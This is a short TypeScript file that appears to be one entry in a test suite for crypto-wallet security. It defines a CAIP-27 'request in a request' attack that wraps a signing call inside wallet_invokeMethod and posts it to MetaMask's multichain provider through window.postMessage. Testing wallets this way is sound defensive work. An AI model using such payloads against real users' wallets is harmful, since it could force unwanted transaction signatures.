import type { Attack } from '../Attack.ts';

/** CAIP-27: a request in a request. */
export const attack: Attack = {
  entry: 'window.postMessage to the wallet, multichain stream',
  mechanism: 'wallet_invokeMethod',
  discovers: false,
  script: `
await kit.ready();
kit.post(kit.rpc({ method: 'wallet_invokeMethod', params: { scope: 'eip155:' + kit.chainId, request: kit.sign() } }), 'metamask-multichain-provider');
`,
};
